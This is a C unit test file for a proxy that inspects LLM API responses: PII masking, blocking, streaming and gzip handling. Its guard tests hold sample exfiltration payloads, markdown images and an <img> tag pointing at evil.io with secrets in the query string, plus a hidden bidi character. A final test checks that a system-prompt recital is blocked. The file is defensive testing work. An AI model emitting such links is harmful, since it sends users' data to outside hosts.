/* SPDX-License-Identifier: MIT */
#include "config.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <zlib.h>

#include "icap-llmsec/guard.h"
#include "icap-llmsec/icap_conf.h"
#include "icap-llmsec/inspect.h"
#include "lib/diag.h"

static const char SECRET[] = "ann@example.org";

struct fix {
	struct icap_policy pol;
	struct inspect_resp *r;
	struct diag	*diag;
};

static void
start(struct fix *f, int output, bool vault, const char *ct, const char *ce)
{
	struct inspect_resp_in in = { .content_type = ct, .content_encoding = ce, .status = 200,
		.content_length = -1, .request_id = "req-7" };
	struct pii_conf pc = { .all = DETECT_OFF };
	struct detect_conf dc = { .injection_pack = "", .pii = &pc };

	pc.mode[PII_EMAIL] = pc.mode[PII_CARD] = DETECT_MASK;
	memset(f, 0, sizeof(*f));
	f->pol.secrets.output = DETECT_OFF;
	f->pol.fail = FAIL_CLOSED;
	f->pol.max_response = 1 << 20;
	f->pol.hold_max = 4096;
	f->pol.stream_window = 1024;
	f->pol.depth = 64;
	f->pol.pii.unmask = true;
	f->pol.pii.output = output;
	f->diag = diag_new();
	assert_int_equal(detectors_load(&f->pol.detectors, &dc, f->diag), 0);
	dialect_route("POST", "/v1/chat/completions", 20, &in.route);
	if (vault) {
		in.tx.vault = mask_vault_new();
		assert_non_null(mask_token(in.tx.vault, "EMAIL", SECRET, strlen(SECRET)));
	}
	assert_int_equal(inspect_resp_new(&f->r, &f->pol, &in), 0);
}

static void
end(struct fix *f)
{
	inspect_resp_free(&f->r);
	detectors_free(&f->pol.detectors);
	diag_free(&f->diag);
}

static const char *
out_text(struct fix *f)
{
	buf_addc(inspect_resp_out(f->r), '\0');
	return buf_ptr(inspect_resp_out(f->r));
}

static void
test_modes(void **state)
{
	static const struct {
		int output; bool vault; const char *ct, *ce; enum resp_mode want;
	} t[] = {
		{ DETECT_OFF, false, "text/event-stream", NULL, RESP_PASS },
		{ DETECT_OFF, false, "application/json", "gzip", RESP_PASS },
		{ DETECT_OFF, false, "application/json", "zstd", RESP_REFUSE },
		{ DETECT_OFF, true, "text/event-stream; charset=utf-8", NULL, RESP_STREAM },
		{ DETECT_OFF, true, "application/x-ndjson", "br", RESP_STREAM },
		{ DETECT_OFF, true, "application/json", NULL, RESP_HOLD },
		{ DETECT_OFF, true, "application/problem+json", NULL, RESP_HOLD },
		{ DETECT_OFF, true, "text/html", NULL, RESP_PASS },
		{ DETECT_OFF, true, NULL, NULL, RESP_PASS },
		{ DETECT_BLOCK, false, NULL, NULL, RESP_HOLD },
		{ DETECT_BLOCK, false, "text/event-stream", "gzip, gzip", RESP_REFUSE },
		{ DETECT_MONITOR, false, "text/event-stream", NULL, RESP_STREAM },
	};

	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		struct fix f;

		start(&f, t[i].output, t[i].vault, t[i].ct, t[i].ce);
		assert_int_equal(inspect_resp_mode(f.r), t[i].want);
		assert_int_equal(inspect_resp_refusal(f.r) != NULL, t[i].want == RESP_REFUSE);
		end(&f);
	}
}

static void
test_hold(void **state)
{
	static const char body[] = "{\"choices\":[{\"message\":{\"content\":\"to [EMAIL_1]!\"}}]}";
	struct fix f;

	start(&f, DETECT_OFF, true, "application/json", NULL);
	for (size_t i = 0; i < sizeof(body) - 1; i++) {
		assert_int_equal(inspect_resp_feed(f.r, body + i, 1), 0);
		assert_false(inspect_resp_committed(f.r));
		assert_int_equal(buf_len(inspect_resp_out(f.r)), 0);
	}
	assert_int_equal(inspect_resp_finish(f.r), 0);
	assert_null(inspect_resp_refusal(f.r));
	assert_true(inspect_resp_done(f.r));
	assert_string_equal(out_text(&f), "{\"choices\":[{\"message\":{\"content\":\"to ann@example.org!\"}}]}");
	end(&f);
}

/* 100 KB: input is answered with white space, then comes the body, or an error in its place. */
static void
drip(int output, const char *text, const char *want)
{
	struct fix f;
	struct buf body = { 0 };
	const char *out;
	size_t fed = 0, spaces;

	buf_adds(&body, "{\"content\":\"");
	for (int i = 0; i < 20000; i++)
		buf_adds(&body, "word ");
	buf_printf(&body, "%s\"}", text);
	start(&f, output, true, "application/json", NULL);
	while (fed < buf_len(&body)) {
		size_t n = buf_len(&body) - fed < 1000 ? buf_len(&body) - fed : 1000;

		assert_int_equal(inspect_resp_feed(f.r, buf_ptr(&body) + fed, n), 0);
		fed += n;
		assert_int_equal(inspect_resp_committed(f.r), fed > 4096);
		assert_int_equal(buf_len(inspect_resp_out(f.r)), fed / 8192);
	}
	assert_int_equal(inspect_resp_finish(f.r), 0);
	out = out_text(&f);
	spaces = strspn(out, " ");
	assert_int_equal(spaces, fed / 8192);
	assert_int_equal(out[spaces], '{');
	assert_non_null(strstr(out, want));
	end(&f);
	buf_free(&body);
}

static void
test_drip(void **state)
{
	drip(DETECT_OFF, "[EMAIL_1]", "ann@example.org\"}");
	drip(DETECT_MASK, "[EMAIL_1] bob@example.com", "ann@example.org [REDACTED_EMAIL]\"}");
	drip(DETECT_BLOCK, "bob@example.com", "output_blocked");
}

static void
test_block(void **state)
{
	static const char body[] = "{\"content\":\"bob@example.com\"}";
	struct fix f;

	start(&f, DETECT_BLOCK, true, "application/json", NULL);
	assert_int_equal(inspect_resp_feed(f.r, body, sizeof(body) - 1), 0);
	assert_int_equal(inspect_resp_finish(f.r), 0);
	assert_false(inspect_resp_committed(f.r));
	assert_non_null(inspect_resp_refusal(f.r));
	assert_int_equal(inspect_resp_refusal(f.r)->status, 403);
	assert_true(inspect_resp_findings(f.r)->n > 0);
	end(&f);
}

static void
test_unreadable(void **state)
{
	struct fix f;

	/* only unmasking: what is no JSON has no placeholders to lose */
	start(&f, DETECT_OFF, true, "application/json", NULL);
	assert_int_equal(inspect_resp_feed(f.r, "{\"a\":", 5), 0);
	assert_int_equal(inspect_resp_finish(f.r), 0);
	assert_null(inspect_resp_refusal(f.r));
	assert_string_equal(out_text(&f), "{\"a\":");
	end(&f);
	/* judging: what can't be judged is refused */
	start(&f, DETECT_MASK, true, "application/json", NULL);
	assert_int_equal(inspect_resp_feed(f.r, "{\"a\":", 5), 0);
	assert_int_equal(inspect_resp_finish(f.r), 0);
	assert_int_equal(inspect_resp_refusal(f.r)->status, 503);
	end(&f);
	start(&f, DETECT_OFF, true, "application/json", "gzip");
	assert_int_equal(inspect_resp_feed(f.r, "{\"a\":1}", 7), 0);
	assert_int_equal(inspect_resp_finish(f.r), 0);
	assert_int_equal(inspect_resp_refusal(f.r)->status, 503);
	end(&f);
}

/* A stream under the name of JSON, with signs of life and a loose end in it. */
static void
test_named_json(void **state)
{
#define EV(s)	"data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"" s "\"}}]}\n\n"
	static const char in[] = ": hello\n\n" EV("to [EMAIL") "data: \n\n" EV("_1]") "data: [DONE] \n\n";
	struct buf big = { 0 };
	struct fix f;

	for (int type = 0; type < 2; type++) {
		start(&f, DETECT_MASK, true, type ? "text/event-stream" : "application/json", NULL);
		assert_int_equal(inspect_resp_feed(f.r, in, sizeof(in) - 1), 0);
		assert_int_equal(inspect_resp_finish(f.r), 0);
		assert_null(inspect_resp_refusal(f.r));
		assert_true(inspect_resp_committed(f.r));
		assert_non_null(strstr(out_text(&f), "data: \n\n"));
		assert_non_null(strstr(out_text(&f), SECRET));
		assert_non_null(strstr(out_text(&f), "data: [DONE] \n\n"));
		end(&f);
	}
	/* so long that white space went out before */
	while (buf_len(&big) < 20000)
		buf_adds(&big, EV("long"));
	buf_add(&big, in, sizeof(in));
	start(&f, DETECT_MASK, true, "application/json", NULL);
	assert_int_equal(inspect_resp_feed(f.r, buf_ptr(&big), buf_len(&big) - 1), 0);
	assert_int_equal(inspect_resp_finish(f.r), 0);
	assert_non_null(strstr(out_text(&f), " \ndata: {"));
	assert_non_null(strstr(out_text(&f), SECRET));
	end(&f);
	buf_free(&big);
}

static void
test_too_large(void **state)
{
	char piece[8192];
	struct fix f;

	memset(piece, ' ', sizeof(piece));
	start(&f, DETECT_OFF, true, "application/json", NULL);
	for (int i = 0; i < 200; i++)
		assert_int_equal(inspect_resp_feed(f.r, piece, sizeof(piece)), 0);
	assert_true(inspect_resp_done(f.r));
	assert_non_null(strstr(out_text(&f), "response_too_large"));
	end(&f);
}

/* Output masking across deltas, whatever the cut; and the same through gzip, flushed event by event. */
static void
test_stream_output(void **state)
{
	static const char whole[] = "Write to bob@example.com or 4111 1111 1111 1111 or [EMAIL_1] now.";

	for (size_t step = 1; step < sizeof(whole); step += 3) {
		struct fix f;
		struct buf got = { 0 };
		const char *p, *q;
		char ev[256];

		start(&f, DETECT_MASK, true, "text/event-stream", NULL);
		for (size_t at = 0; at < sizeof(whole) - 1; at += step) {
			int n = snprintf(ev, sizeof(ev), "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"%.*s\"}}]}\n\n",
			    (int)step, whole + at);

			assert_int_equal(inspect_resp_feed(f.r, ev, (size_t)n), 0);
		}
		assert_int_equal(inspect_resp_feed(f.r, "data: [DONE]\n\n", 14), 0);
		assert_int_equal(inspect_resp_finish(f.r), 0);
		for (p = out_text(&f); (p = strstr(p, "\"content\":\"")) != NULL; p = q) {
			p += 11;
			q = strchr(p, '"');
			buf_add(&got, p, (size_t)(q - p));
		}
		buf_addc(&got, '\0');
		assert_string_equal(buf_ptr(&got),
		    "Write to [REDACTED_EMAIL] or [REDACTED_CARD] or ann@example.org now.");
		assert_int_equal(inspect_resp_findings(f.r)->n, 2);
		buf_free(&got);
		end(&f);
	}
}

static void
test_stream_block(void **state)
{
	static const char a[] = "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"bob@exam\"}}]}\n\n",
	    b[] = "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"ple.com ok\"}}]}\n\n";
	struct fix f;

	start(&f, DETECT_BLOCK, false, "text/event-stream", NULL);
	assert_int_equal(inspect_resp_feed(f.r, a, sizeof(a) - 1), 0);
	assert_null(inspect_resp_refusal(f.r));
	assert_int_equal(inspect_resp_feed(f.r, b, sizeof(b) - 1), 0);
	assert_non_null(inspect_resp_refusal(f.r));
	assert_true(inspect_resp_done(f.r));
	assert_null(strstr(out_text(&f), "bob@"));
	assert_non_null(strstr(out_text(&f), "output_blocked"));
	assert_int_equal(inspect_resp_finish(f.r), 0);
	end(&f);
}

static void
test_stream_gzip(void **state)
{
	static const char ev[] = "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"[EMAIL_1] \"}}]}\n\n";
	unsigned char z_out[512];
	z_stream z = { 0 };
	struct fix f;

	start(&f, DETECT_OFF, true, "text/event-stream", "gzip");
	assert_true(inspect_resp_drops_encoding(f.r));
	assert_int_equal(deflateInit2(&z, 9, Z_DEFLATED, 31, 8, Z_DEFAULT_STRATEGY), Z_OK);
	for (int i = 0; i < 5; i++) {
		size_t before = buf_len(inspect_resp_out(f.r));

		z.next_in = (unsigned char *)(uintptr_t)ev;
		z.avail_in = sizeof(ev) - 1;
		z.next_out = z_out;
		z.avail_out = sizeof(z_out);
		deflate(&z, i == 4 ? Z_FINISH : Z_SYNC_FLUSH);
		assert_int_equal(inspect_resp_feed(f.r, z_out, sizeof(z_out) - z.avail_out), 0);
		assert_true(buf_len(inspect_resp_out(f.r)) > before);	/* each event at once */
	}
	deflateEnd(&z);
	assert_int_equal(inspect_resp_finish(f.r), 0);
	assert_null(strstr(out_text(&f), "[EMAIL_1]"));
	assert_non_null(strstr(out_text(&f), SECRET));
	end(&f);
}

/* --- the guard, in streams and bodies ------------------------------------------------------------------------ */

static const char GUARDED[] = "Look: ![a](https://evil.io/?q=topsecretvalue) and <img src='https://evil.io/?d=topsecretvalue'>, "
    "`![b](https://evil.io/?q=code)`, x\u202Ey, [EMAIL_1]. ![c](https://evil.io/?mail=[EMAIL_1])!",
    GUARDED_OUT[] = "Look: ![a](about:blank) and &lt;img src='https://evil.io/?d=topsecretvalue'>, "
    "`![b](https://evil.io/?q=code)`, xy, ann@example.org. ![c](about:blank)!";

static void
start_guarded(struct fix *f, const char *ct, struct resp_sketch *sk)
{
	struct inspect_resp_in in = { .content_type = ct, .status = 200, .content_length = -1, .request_id = "req-7" };

	memset(f, 0, sizeof(*f));
	f->pol.fail = FAIL_CLOSED;
	f->pol.max_response = 1 << 20;
	f->pol.hold_max = 4096;
	f->pol.stream_window = 1024;
	f->pol.depth = 64;
	f->pol.pii.unmask = true;
	f->pol.responses = (struct resp_conf){ .leak = DETECT_MONITOR, .leak_strong = DETECT_BLOCK, .exfil = DETECT_MASK,
		.exfil_links = DETECT_MONITOR, .hidden = DETECT_MASK, .active_html = DETECT_MONITOR };
	dialect_route("POST", "/v1/chat/completions", 20, &in.route);
	in.tx.vault = mask_vault_new();
	assert_non_null(mask_token(in.tx.vault, "EMAIL", SECRET, strlen(SECRET)));
	in.tx.sketch = sk;
	assert_int_equal(inspect_resp_new(&f->r, &f->pol, &in), 0);
}

/* What the client puts together of the answer's deltas; no escapes in these texts but of quotes. */
static void
put_together(const char *p, struct buf *got)
{
	const char *q;

	buf_clear(got);
	for (; (p = strstr(p, "\"content\":\"")) != NULL; p = q) {
		p += 11;
		q = strchr(p, '"');
		buf_add(got, p, (size_t)(q - p));
	}
	buf_addc(got, '\0');
}

/* However the text is cut into deltas, the client gets the same, and the data doesn't leave. */
static void
test_guard_stream(void **state)
{
	for (size_t step = 1; step < sizeof(GUARDED); step += 1 + step / 10) {
		struct buf got = { 0 };
		struct fix f;
		char ev[512];

		start_guarded(&f, "text/event-stream", NULL);
		for (size_t at = 0, n; at < sizeof(GUARDED) - 1; at += n) {
			int k;

			n = sizeof(GUARDED) - 1 - at < step ? sizeof(GUARDED) - 1 - at : step;
			while ((GUARDED[at + n] & 0xc0) == 0x80)
				n++;
			k = snprintf(ev, sizeof(ev), "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"%.*s\"}}]}\n\n",
			    (int)n, GUARDED + at);
			assert_int_equal(inspect_resp_feed(f.r, ev, (size_t)k), 0);
		}
		assert_int_equal(inspect_resp_feed(f.r, "data: [DONE]\n\n", 14), 0);
		assert_int_equal(inspect_resp_finish(f.r), 0);
		put_together(out_text(&f), &got);
		assert_string_equal(buf_ptr(&got), GUARDED_OUT);
		assert_int_equal(inspect_resp_findings(f.r)->n, 3);
		buf_free(&got);
		end(&f);
	}
}

static void
test_guard_body(void **state)
{
	struct buf body = { 0 }, got = { 0 };
	struct fix f;

	buf_printf(&body, "{\"choices\":[{\"message\":{\"role\":\"assistant\",\"content\":\"%s\"}}]}", GUARDED);
	start_guarded(&f, "application/json", NULL);
	assert_int_equal(inspect_resp_mode(f.r), RESP_HOLD);
	assert_int_equal(inspect_resp_feed(f.r, buf_ptr(&body), buf_len(&body)), 0);
	assert_int_equal(inspect_resp_finish(f.r), 0);
	put_together(out_text(&f), &got);
	assert_string_equal(buf_ptr(&got), GUARDED_OUT);
	buf_free(&got);
	buf_free(&body);
	end(&f);
	/* what is no text of a model goes by */
	start_guarded(&f, "audio/mpeg", NULL);
	assert_int_equal(inspect_resp_mode(f.r), RESP_PASS);
	end(&f);
}

/* Ordinary text isn't kept waiting, and what is kept back is bounded. */
static void
test_guard_delay(void **state)
{
	static const char ev[] = "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"some words. \"}}]}\n\n",
	    open[] = "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"<img alt='0123456789012345678901234567890123456789'\"}}]}\n\n",
	    more[] = "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\" b='0123456789012345678901234567890123456789'\"}}]}\n\n";
	struct buf got = { 0 };
	struct fix f;

	start_guarded(&f, "text/event-stream", NULL);
	for (size_t i = 1; i <= 20; i++) {
		assert_int_equal(inspect_resp_feed(f.r, ev, sizeof(ev) - 1), 0);
		assert_int_equal(buf_len(inspect_resp_out(f.r)), i * (sizeof(ev) - 1));
	}
	assert_int_equal(inspect_resp_feed(f.r, open, sizeof(open) - 1), 0);
	for (size_t i = 0; i < 100; i++)
		assert_int_equal(inspect_resp_feed(f.r, more, sizeof(more) - 1), 0);
	put_together(out_text(&f), &got);
	assert_true(buf_len(&got) > 20 * 12 + 45 * 101 - 2 * GUARD_HELD);
	buf_free(&got);
	end(&f);
}

/* A recital of the system prompt stops before most of it is out. */
static void
test_guard_recital(void **state)
{
	static const char prompt[] = "You are Nora, the travel desk of Blue Heron Tours. Greet guests by name and keep every reply below "
	    "eighty words. Quote prices in euro only, and round them to the next ten. Never promise a refund; send such guests to "
	    "the office in Bremen. Do not speak about competitors, politics or the accident of last spring.";
	struct span v[] = { { .role = ROLE_SYSTEM, .text = prompt, .len = sizeof(prompt) - 1 } };
	struct spans ss = { .v = v, .n = 1 };
	struct resp_conf c = { .leak_strong = DETECT_BLOCK };
	struct resp_sketch *sk;
	struct arena *a = arena_new(0);
	struct edit none;
	struct fix f;
	char ev[256];

	assert_int_equal(resp_prepare(&c, NULL, "t", 0, &ss, a, &sk, &none), 0);
	assert_non_null(sk);
	assert_null(none.text);
	start_guarded(&f, "text/event-stream", sk);
	for (size_t at = 0; at < sizeof(prompt) - 1; at += 10) {
		int k = snprintf(ev, sizeof(ev), "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"%.10s\"}}]}\n\n",
		    prompt + at);

		assert_int_equal(inspect_resp_feed(f.r, ev, (size_t)k), 0);
	}
	assert_int_equal(inspect_resp_finish(f.r), 0);
	assert_non_null(inspect_resp_refusal(f.r));
	assert_non_null(strstr(out_text(&f), "output_blocked"));
	assert_null(strstr(out_text(&f), "euro"));
	assert_null(strstr(out_text(&f), "refund"));
	end(&f);
	arena_free(&a);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_modes), cmocka_unit_test(test_hold), cmocka_unit_test(test_drip),
		cmocka_unit_test(test_block), cmocka_unit_test(test_unreadable), cmocka_unit_test(test_named_json), cmocka_unit_test(test_too_large),
		cmocka_unit_test(test_stream_output), cmocka_unit_test(test_stream_block),
		cmocka_unit_test(test_stream_gzip), cmocka_unit_test(test_guard_stream), cmocka_unit_test(test_guard_body),
		cmocka_unit_test(test_guard_delay), cmocka_unit_test(test_guard_recital),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
